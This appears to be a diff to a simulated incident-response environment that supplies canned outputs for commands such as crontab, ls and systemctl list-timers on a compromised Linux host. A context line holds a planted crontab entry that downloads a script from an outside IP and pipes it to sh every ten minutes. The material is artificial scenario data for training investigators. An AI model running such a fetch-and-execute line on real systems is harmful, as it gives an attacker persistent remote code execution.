@@ -219,6 +219,37 @@ _CRONTAB = """\
 */10 * * * * curl -fsSL http://203.0.113.66/.s/k.sh | sh >/dev/null 2>&1
 """
 
+_CRON_DIRS = """\
+/etc/cron.d:
+total 8
+drwxr-xr-x.  2 root root   21 2024-11-05 17:40:12.000000000 +0000 .
+drwxr-xr-x. 84 root root 8192 ${incident_iso}:58.412311084 +0000 ..
+-rw-r--r--.  1 root root  128 2024-11-05 17:40:12.000000000 +0000 0hourly
+
+/etc/cron.hourly:
+total 4
+drwxr-xr-x.  2 root root   22 2024-11-05 17:40:12.000000000 +0000 .
+-rwxr-xr-x.  1 root root  580 2024-11-05 17:40:12.000000000 +0000 0anacron
+
+/etc/cron.daily:
+total 0
+drwxr-xr-x.  2 root root    6 2024-11-05 17:40:12.000000000 +0000 .
+
+/var/spool/cron:
+total 4
+drwx------.  2 root root   18 ${incident_iso}:58.412311084 +0000 .
+-rw-------.  1 root root  171 ${incident_iso}:58.412311084 +0000 root
+"""
+
+_TIMERS = """\
+NEXT                        LEFT       LAST                        PASSED      UNIT                         ACTIVATES
+${date}  53min left ${date}  6min ago    dnf-makecache.timer          dnf-makecache.service
+${date}  11h left   ${date}  12h ago     logrotate.timer              logrotate.service
+${date}  14h left   ${date}  9h ago      systemd-tmpfiles-clean.timer systemd-tmpfiles-clean.service
+
+3 timers listed.
+"""
+
 _DF = """\
 Filesystem       1K-blocks    Used Available Use% Mounted on
 devtmpfs              4096       0      4096   0% /dev
@@ -274,6 +305,8 @@ _OUTPUTS = {
     "last": _LAST,
     "lsof": _LSOF,
     "crontab": _CRONTAB,
+    "ls": _CRON_DIRS,
+    "systemctl list-timers": _TIMERS,
     "df": _DF,
     "free": _FREE,
     "journalctl": _JOURNAL,
